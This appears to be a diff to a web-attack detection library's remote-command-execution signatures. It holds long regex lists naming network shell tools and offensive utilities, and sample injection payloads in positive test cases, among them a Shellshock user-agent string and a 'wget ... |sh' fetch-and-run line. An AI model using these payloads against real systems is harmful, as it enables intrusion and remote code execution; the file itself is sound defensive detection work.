@@ -1,12 +1,12 @@
 """Commands and code to be run: shells, PHP, Java, templates, Node."""
 
-from pipeline.signatures.signature import ARGS, PAYLOAD, Signature
+from pipeline.signatures.signature import ARGS, PAYLOAD, Example, Signature
 
 COMMANDS = (
     r"id|ls|ps|w|who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|"
     r"wget|curl|fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|"
-    r"zsh|ksh|csh|tcsh|fish|busybox|perl|python[23]?|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|"
-    r"chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|"
+    r"zsh|ksh|csh|tcsh|fish|busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|"
+    r"chown|chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|"
     r"hexdump|strings|grep|egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|"
     r"type|kill|pkill|killall|nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|"
     r"lastlog|history|ifconfig|ip|netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|"
@@ -51,7 +51,7 @@ RCE = (
         severity="high",
         confidence="high",
         techniques=("T1190", "T1059.004"),
-        where=PAYLOAD,
+        where=("args", "path", "referer", "header"),
         pattern=(
             r"(?:[;|`{]|&&|\|\||\$\(|<\(|>\(|\n)\s*(?:[\w$]*/(?:usr/)?(?:local/)?s?bin/)?(?:"
             + COMMANDS
@@ -80,7 +80,7 @@ RCE = (
         where=ARGS,
         pattern=(
             r"(?:=|^|[\s;|&(`'\"])(?:(?:/\w+)*/)?(?:cat|tac|head|tail|more|less|nl|ls|rm|chmod|cp|mv|wget|"
-            r"curl|nc|ncat|bash|sh|dash|zsh|ksh|perl|python[23]?|ruby|php|touch|echo|uname|ping|find|tar|"
+            r"curl|nc|ncat|bash|sh|dash|zsh|ksh|perl|python[\d.]*|ruby|php|touch|echo|uname|ping|find|tar|"
             r"base64|tftp|busybox) (?:-{1,2}[a-z0-9]+\b|[/~]\w*[/.]|https?://|[\w/.]*[*?]|[\w.]+\s*[|>]|\$\w)|"
             r"\b(?:wget|curl) (?:-\S+ )*(?:https?|ftp)://|\b(?:ba|z|k|da|c|a)?sh -[ci]\b|\bcat /\w+|\$shell\b|"
             r"\bnc -\w*[elp]\w*\s|/dev/(?:tcp|udp)/|\bchmod \+?[0-7x]|\brm -rf?\b|(?:^|"
@@ -117,8 +117,9 @@ RCE = (
         techniques=("T1190", "T1059.004"),
         where=ARGS,
         pattern=(
-            r"/\w*[?*\[][\w?*\[\]-]*/[\w?*\[\]]|/(?:e[t*?]+|b[i*?]+n?|\?{2,})[*?]*/|[a-z]\\[a-z]+\s+/|"
-            r"\w''\w+\s|\w\"\"\w+\s|[a-z]\$[@*_!-]\w|[a-z]\$\$\w|\$\(\)\w|\{,?[a-z]+,[^}&]*\}|\{,[a-z]+\}"
+            r"/\w*[?*\[][\w?*\[\]!^-]*/[\w?*\[\]]|\((?:ba|z|k|da|c|a)?sh\)|&&\s*\(\w+\)|/(?:e[t*?]+|b[i*?]+n?|"
+            r"\?{2,})[*?]*/|[a-z]\\[a-z]+\s+/|\w''\w+\s|\w\"\"\w+\s|[a-z]\$[@*_!-]\w|[a-z]\$\$\w|\$\(\)\w|"
+            r"\{,?\$?['\"]?[a-z]+['\"]?,[^}&]*\}|\{,\$?['\"]?[a-z]+['\"]?,?\}"
         ),
         positive=("/i?x=cat+/et*/*wd", "/i?x=ti''me+sh", "/i?x=%7b%2c%69%64%7d"),
         negative=("/i?a=b/*", "/i?q={a:1}"),
@@ -139,7 +140,16 @@ RCE = (
             r"downloadfile|start-process|get-content|write-output|-encodedcommand)\b\s*[\s('\"$-]|"
             r"\bcscript\b\s|\bsysteminfo\b|\bipconfig\b|\btasklist\b|%(?:comspec|systemroot|windir|"
             r"programfiles|userprofile|appdata)(?:%|:)|(?:[;|]\s*|&& ?|& )(?:dir|ver|type|copy|del|ren|"
-            r"ping)\b\s*(?:[a-z]:|/|\\|-n|$|&)"
+            r"ping)\b\s*(?:[a-z]:|/|\\|-n|$|&)|(?:[;|`\n]\s*|&& ?|& |=)(?:arp|assoc|attrib|auditpol|bcdboot|"
+            r"bcdedit|bitsadmin|bootcfg|cacls|certreq|certutil|chkdsk|cipher|clip|cmdkey|cmstp|csvde|defrag|"
+            r"diskpart|diskshadow|dism|driverquery|dsquery|dsget|esentutl|eventcreate|extrac32|forfiles|"
+            r"fsutil|ftype|getmac|gpresult|gpupdate|icacls|installutil|ipconfig|klist|logoff|makecab|"
+            r"mavinject|mklink|msbuild|msconfig|msdt|mshta|msiexec|mstsc|nbtstat|netsh|nltest|nslookup|"
+            r"odbcconf|pcalua|pktmon|pnputil|powercfg|qprocess|quser|qwinsta|regasm|regsvcs|regsvr32|robocopy|"
+            r"rundll32|runas|schtasks|secedit|sfc|subst|systeminfo|takeown|taskkill|tasklist|tracert|typeperf|"
+            r"vssadmin|w32tm|wbadmin|wecutil|wevtutil|winrm|winrs|wmic|wscript|cscript|wusa|xcopy|procdump|"
+            r"psexec|pslist|pskill|psinfo|psloggedon|psservice|psgetsid|psfile|psshutdown|"
+            r"mimikatz)(?:\.exe)?(?:[ ;|&/]|$)"
         ),
         plain=True,
         positive=("/i?x=cmd.exe+/c+dir", "/i?x=powershell+-enc+x", "/i?x=%26+net+user", "/scripts/cmd.exe?/c+dir"),
@@ -288,20 +298,21 @@ RCE = (
             r"session_\w+|spl_\w+|iterator_\w+|filter_\w+|date_\w+|mb_\w+|tidy_\w+|zip_\w+|exif_\w+|iptc\w+|"
             r"image(?:create|png|jpeg|gif)\w*|str_\w+|substr_\w+|html_entity_decode|htmlspecialchars\w*|"
             r"strrev|strtr|strlen|strpos|ucfirst|ucwords|implode|explode|sprintf|vsprintf|printf|md5_file|"
-            r"sha1_file|md5|sha1|crc32|fileperms|fileowner|filesize|filemtime|disk_\w+|diskfreespace|"
-            r"gethostbyname|dns_\w+|checkdnsrr|escapeshell\w+|syslog|openlog|touch|mkdir|rmdir|rename|usleep|"
-            r"phpmailer|include_once|require_once)(?:\s|/\*.*\*/|(?:#|//)[^\n]*\n)*\(|(?:^|[^a-z])(?:system|"
-            r"exec|eval|include|require|print|echo|die|exit|glob|mail|dl|define|constant|extract|compact|"
-            r"serialize|copy|link|stat|sleep|ord|join|key|current|each|end|reset|abs|acos|array|asin|atan|"
-            r"basename|ceil|checkdate|chdir|chop|chroot|clearstatcache|closedir|cos|count|crypt|date|decbin|"
-            r"dechex|dir|dirname|empty|ereg|exp|fclose|feof|fflush|file|flock|floor|flush|fmod|fpassthru|"
-            r"fseek|ftell|ftruncate|getcwd|getdate|getmyuid|getopt|gettype|hash|header|hexdec|hypot|idate|"
-            r"intdiv|intval|isset|lchown|list|localtime|log|lstat|ltrim|max|metaphone|microtime|min|mktime|"
-            r"natsort|next|octdec|pack|pathinfo|pclose|pi|pos|pow|prev|quotemeta|rand|range|readdir|realpath|"
-            r"rewind|round|rsort|rtrim|settype|shuffle|sin|sizeof|sort|soundex|split|sqrt|srand|strcmp|"
-            r"stristr|strstr|strtolower|strtotime|strtoupper|substr|tan|time|trim|umask|uniqid|unpack|unset|"
-            r"urldecode|urlencode|virtual|wordwrap)(?:\(|\s*(?:[\t\n\r]|/\*.*\*/|  |(?:#|"
-            r"//)[^\n]*\n)\s*\()\s*[\w)'\"$@(\[)#/.~-]|fsockopen\s*\(|gz(?:decode|inflate|uncompress)\s*\("
+            r"sha1_file|md5|sha1|crc32|fileperms|fileowner|file(?:size|group|inode|type|atime|mtime|ctime)|"
+            r"disk_\w+|diskfreespace|gethostbyname|dns_\w+|checkdnsrr|escapeshell\w+|syslog|openlog|touch|"
+            r"mkdir|rmdir|rename|usleep|phpmailer|include_once|require_once)(?:\s|/\*.*\*/|(?:#|"
+            r"//)[^\n]*\n)*\(|(?:^|[^a-z])(?:system|exec|eval|include|require|print|echo|die|exit|glob|mail|"
+            r"dl|define|constant|extract|compact|serialize|copy|link|stat|sleep|ord|join|key|current|each|end|"
+            r"reset|abs|acos|array|asin|atan|basename|ceil|checkdate|chdir|chop|chroot|clearstatcache|"
+            r"closedir|cos|count|crypt|date|decbin|dechex|dir|dirname|empty|ereg|exp|fclose|feof|fflush|file|"
+            r"flock|floor|flush|fmod|fpassthru|fseek|ftell|ftruncate|getcwd|getdate|getmyuid|getopt|gettype|"
+            r"hash|header|hexdec|hypot|idate|intdiv|intval|isset|lchown|list|localtime|log|lstat|ltrim|max|"
+            r"metaphone|microtime|min|mktime|natsort|next|octdec|pack|pathinfo|pclose|pi|pos|pow|prev|"
+            r"quotemeta|rand|range|readdir|realpath|rewind|round|rsort|rtrim|settype|shuffle|sin|sizeof|sort|"
+            r"soundex|split|sqrt|srand|strcmp|stristr|strstr|strtolower|strtotime|strtoupper|substr|tan|time|"
+            r"trim|umask|uniqid|unpack|unset|urldecode|urlencode|virtual|wordwrap)(?:\(|\s*(?:[\t\n\r]|"
+            r"/\*.*\*/|  |(?:#|//)[^\n]*\n)\s*\()\s*[\w)'\"$@(\[)#/.~-]|fsockopen\s*\(|gz(?:decode|inflate|"
+            r"uncompress)\s*\("
         ),
         positive=(
             "/?x=phpinfo()",
@@ -383,28 +394,7 @@ RCE = (
                 r"[~/.*\"'$]|\w+ ?(?:\w+ ?)?(?:$|&)|\w+[.:/@]\w)|[;|]\s*(?:(?:/\w+)*/)?(?:id|ls|ps|w|who|whoami|"
                 r"uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|fetch|lynx|"
                 r"lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|tcsh|fish|"
-                r"busybox|perl|python[23]?|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|chattr|cp|mv|rm|rmdir|"
-                r"mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|hexdump|strings|grep|egrep|"
-                r"awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|type|kill|pkill|killall|nohup|"
-                r"crontab|at|service|systemctl|mount|umount|df|du|free|top|last|lastlog|history|ifconfig|ip|"
-                r"netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|dnsdomainname|useradd|userdel|"
-                r"adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|pip3?|npm|git|docker|kubectl|mysql|"
-                r"psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|source|export|alias|unset|trap|test|"
-                r"expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|groups|getent|finger|mail|sendmail|"
-                r"reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|tcpdump|nmap|watch|timeout|time|"
-                r"nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|lsof|lsb_release|lscpu|lsattr|lspci|"
-                r"lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|setcap|getcap|strace|ltrace|gdb|"
-                r"msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|arpspoof|responder|john|hashcat|"
-                r"crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|dpkg|rpm|snap|flatpak|pacman|"
-                r"zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|ansible-playbook|terraform|"
-                r"vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|az|gsutil|ipfs|zstd|xz|"
-                r"unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|zless|zmore|rgrep|"
-                r"fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|csplit|paste|column|"
-                r"fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|socks|proxychains|"
-                r"torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet)(?:\s+[-/.'\"(]|\s*[;|<>(]\s*)|& ?(?:id|ls|ps|"
-                r"w|who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|"
-                r"fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|"
-                r"tcsh|fish|busybox|perl|python[23]?|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|chattr|cp|mv|rm|"
+                r"busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|chattr|cp|mv|rm|"
                 r"rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|hexdump|strings|grep|"
                 r"egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|type|kill|pkill|killall|"
                 r"nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|lastlog|history|ifconfig|ip|"
@@ -422,37 +412,16 @@ RCE = (
                 r"unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|zless|zmore|rgrep|"
                 r"fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|csplit|paste|column|"
                 r"fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|socks|proxychains|"
-                r"torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet) ['\"(]|[;|]\s*(?:id|ls|ps|w|who|whoami|uname|"
-                r"pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|fetch|lynx|lwp-\w+|"
-                r"aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|tcsh|fish|busybox|"
-                r"perl|python[23]?|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|chattr|cp|mv|rm|rmdir|mkdir|touch|"
-                r"ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|hexdump|strings|grep|egrep|awk|gawk|sed|"
-                r"cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|type|kill|pkill|killall|nohup|crontab|at|"
-                r"service|systemctl|mount|umount|df|du|free|top|last|lastlog|history|ifconfig|ip|netstat|ss|route|"
-                r"arp|ping6?|traceroute|nslookup|dig|host|hostname|dnsdomainname|useradd|userdel|adduser|passwd|"
-                r"su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|pip3?|npm|git|docker|kubectl|mysql|psql|sqlite3|"
-                r"redis-cli|openssl|gpg|sleep|exit|exec|eval|source|export|alias|unset|trap|test|expr|ed|vi|vim|"
-                r"nano|emacs|diff|patch|file|stat|date|uptime|groups|getent|finger|mail|sendmail|reboot|shutdown|"
-                r"halt|init|insmod|lsmod|dmesg|sysctl|iptables|tcpdump|nmap|watch|timeout|time|nice|yes|rev|"
-                r"bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|lsof|lsb_release|lscpu|lsattr|lspci|lsusb|blkid|"
-                r"mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|setcap|getcap|strace|ltrace|gdb|msfvenom|"
-                r"msfconsole|searchsploit|hping3|tshark|ettercap|arpspoof|responder|john|hashcat|crackmapexec|"
-                r"smbclient|rpcclient|ldapsearch|whois|pkexec|doas|dpkg|rpm|snap|flatpak|pacman|zypper|emerge|"
-                r"conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|ansible-playbook|terraform|vagrant|virsh|lxc|"
-                r"lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|az|gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|ar|"
-                r"genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|zless|zmore|rgrep|fgrep|pgrep|pidof|pstree|"
-                r"mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|csplit|paste|column|fold|fmt|pr|tsort|comm|"
-                r"cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|socks|proxychains|torify|tor|iconv|recode|jq|"
-                r"yq|xmllint|xmlstarlet)\b(?:$|&)|[|;]\s*\w{1,3} \(|\balias [-+]?[\w+-]* ?\w+ ?=|[=;\s](?:\$\w|"
-                r"\$\{\w+\})+\s+(?:id|ls|ps|w|who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|"
-                r"set|echo|printf|wget|curl|fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|"
-                r"bash|sh|dash|zsh|ksh|csh|tcsh|fish|busybox|perl|python[23]?|ruby|php\d?|node|lua|gcc|cc|make|"
-                r"chmod|chown|chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|"
-                r"xxd|od|hexdump|strings|grep|egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|"
-                r"whereis|type|kill|pkill|killall|nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|"
-                r"last|lastlog|history|ifconfig|ip|netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|"
-                r"hostname|dnsdomainname|useradd|userdel|adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|"
-                r"apk|pip3?|npm|git|docker|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|"
+                r"torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet)(?:\s+[-/.'\"(]|\s*[;|<>(]\s*)|& ?(?:id|ls|ps|"
+                r"w|who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|"
+                r"fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|"
+                r"tcsh|fish|busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|"
+                r"chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|"
+                r"hexdump|strings|grep|egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|"
+                r"type|kill|pkill|killall|nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|"
+                r"lastlog|history|ifconfig|ip|netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|"
+                r"dnsdomainname|useradd|userdel|adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|"
+                r"pip3?|npm|git|docker|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|"
                 r"source|export|alias|unset|trap|test|expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|"
                 r"groups|getent|finger|mail|sendmail|reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|"
                 r"tcpdump|nmap|watch|timeout|time|nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|"
@@ -464,8 +433,51 @@ RCE = (
                 r"az|gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|"
                 r"zless|zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|"
                 r"csplit|paste|column|fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|"
-                r"socks|proxychains|torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet)\s|(?:^|[=\s])!(?:-?\d+|!|"
-                r"\?\w+\?)(?:$|&|!|\s|-)"
+                r"socks|proxychains|torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet) ['\"(]|[;|]\s*(?:id|ls|ps|w|"
+                r"who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|"
+                r"fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|"
+                r"tcsh|fish|busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|"
+                r"chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|"
+                r"hexdump|strings|grep|egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|"
+                r"type|kill|pkill|killall|nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|"
+                r"lastlog|history|ifconfig|ip|netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|"
+                r"dnsdomainname|useradd|userdel|adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|"
+                r"pip3?|npm|git|docker|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|"
+                r"source|export|alias|unset|trap|test|expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|"
+                r"groups|getent|finger|mail|sendmail|reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|"
+                r"tcpdump|nmap|watch|timeout|time|nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|"
+                r"lsof|lsb_release|lscpu|lsattr|lspci|lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|"
+                r"setcap|getcap|strace|ltrace|gdb|msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|"
+                r"arpspoof|responder|john|hashcat|crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|"
+                r"dpkg|rpm|snap|flatpak|pacman|zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|"
+                r"ansible-playbook|terraform|vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|"
+                r"az|gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|"
+                r"zless|zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|"
+                r"csplit|paste|column|fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|"
+                r"socks|proxychains|torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet)\b(?:$|&)|[|;]\s*\w{1,3} \(|"
+                r"\balias [-+]?[\w+-]* ?\w+ ?=|[=;\s](?:\$\w|\$\{\w+\})+\s+(?:id|ls|ps|w|who|whoami|uname|pwd|cat|"
+                r"tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|fetch|lynx|lwp-\w+|aria2c|"
+                r"tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|tcsh|fish|busybox|perl|"
+                r"python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|chattr|cp|mv|rm|rmdir|mkdir|"
+                r"touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|hexdump|strings|grep|egrep|awk|"
+                r"gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|type|kill|pkill|killall|nohup|"
+                r"crontab|at|service|systemctl|mount|umount|df|du|free|top|last|lastlog|history|ifconfig|ip|"
+                r"netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|dnsdomainname|useradd|userdel|"
+                r"adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|pip3?|npm|git|docker|kubectl|mysql|"
+                r"psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|source|export|alias|unset|trap|test|"
+                r"expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|groups|getent|finger|mail|sendmail|"
+                r"reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|tcpdump|nmap|watch|timeout|time|"
+                r"nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|lsof|lsb_release|lscpu|lsattr|lspci|"
+                r"lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|setcap|getcap|strace|ltrace|gdb|"
+                r"msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|arpspoof|responder|john|hashcat|"
+                r"crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|dpkg|rpm|snap|flatpak|pacman|"
+                r"zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|ansible-playbook|terraform|"
+                r"vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|az|gsutil|ipfs|zstd|xz|"
+                r"unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|zless|zmore|rgrep|"
+                r"fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|csplit|paste|column|"
+                r"fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|socks|proxychains|"
+                r"torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet)\s|(?:^|[=\s])!(?:-?\d+|!|\?\w+\?)(?:$|&|!|\s|"
+                r"-)"
             )
         ),
         plain=True,
@@ -482,7 +494,7 @@ RCE = (
         techniques=("T1190", "T1059"),
         where=ARGS,
         pattern=(
-            r"(?:^|[;=\n\"'`]|\\n)\s*\.(?:archive|backup|bail|binary|cd|changes|check|clone|connection|"
+            r"(?:^|[;=\n\"'`]|\\n)\s*\. ?(?:archive|backup|bail|binary|cd|changes|check|clone|connection|"
             r"databases|dbconfig|dbinfo|dump|echo|eqp|excel|exit|expert|explain|filectrl|fullschema|headers|"
             r"import|imposter|indexes|limit|lint|load|log|mode|nonce|nullvalue|once|open|output|parameter|"
             r"print|progress|prompt|quit|read|recover|restore|save|scanstats|schema|selftest|separator|"
@@ -504,10 +516,11 @@ RCE = (
         pattern=(
             r"\$_(?:get|post|request|cookie|server|files|session|env)\b|\$globals\b|\bhttp_(?:raw_post_data|"
             r"cookie_vars|get_vars|post_vars|server_vars)\b|_(?:request|globals|server|session|cookie)\[|"
-            r"\$\{?\s*\{?\$?\w+(?:->\w+|\[\w*\])*\}?\s*(?:/\*.*\*/\s*)?\(|\$\{\s*['\"$]|(?:^|"
-            r"[\s&=;?])(?:allow_url_(?:include|fopen)|auto_(?:prepend|append)_file|disable_functions|"
-            r"open_basedir|extension_dir|memory_limit|safe_mode|suhosin\.\w+|cgi\.(?:force_redirect|"
-            r"redirect_status_env)|error_log|include_path|upload_tmp_dir|zend\.\w+|assert\.\w+)\s*="
+            r"\$\{?\s*\{?\$?\w+(?:->\w+|\[\w*\])*\}?\s*(?:/\*.*\*/\s*)?\(|\$\s*\{\s*['\"$@(]|"
+            r"\(\s*string\s*\)\s*[\[{'\"(]|(?:^|[\s&=;?])(?:allow_url_(?:include|fopen)|auto_(?:prepend|"
+            r"append)_file|disable_functions|open_basedir|extension_dir|memory_limit|safe_mode|suhosin\.\w+|"
+            r"cgi\.(?:force_redirect|redirect_status_env)|error_log|include_path|upload_tmp_dir|zend\.\w+|"
+            r"assert\.\w+)\s*="
         ),
         plain=True,
         positive=(
@@ -652,5 +665,25 @@ RCE = (
         pattern=r"=~(?:[+-]?\d*)(?:$|&|/|\s)",
         positive=("/?x=~0", "/?x=~+"),
         negative=("/?x=~user",),
+    ),
+    Signature(
+        id="rce-unix-agent",
+        family="rce",
+        title="A UNIX command in a user agent",
+        severity="high",
+        confidence="high",
+        techniques=("T1190", "T1059.004"),
+        where=("agent",),
+        pattern=(
+            r"\(\)\s*\{|[;|&`]\s*(?:/\w+)*/?(?:wget|curl|cat|bash|sh|nc|ping|echo|rm|chmod|perl|python\d?|php|"
+            r"nslookup|sleep|uname|busybox|tftp|cd)\s+[-/h'\"$|>~\d]|[;|`]\s*(?:id|whoami|uname|pwd|ls)\s*[;|"
+            r"`]|/bin/(?:ba|z|da)?sh\b|/dev/tcp/"
+        ),
+        positive=(Example(agent="() { :;}; /bin/bash -c id"), Example(agent="x;wget http://x/y -O- |sh")),
+        negative=(
+            Example(agent="Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0)"),
+            Example(agent="Embedly/0.2; snap; +http://support.embed.ly/"),
+        ),
+        references=("https://nvd.nist.gov/vuln/detail/CVE-2014-6271",),
     ),
 )
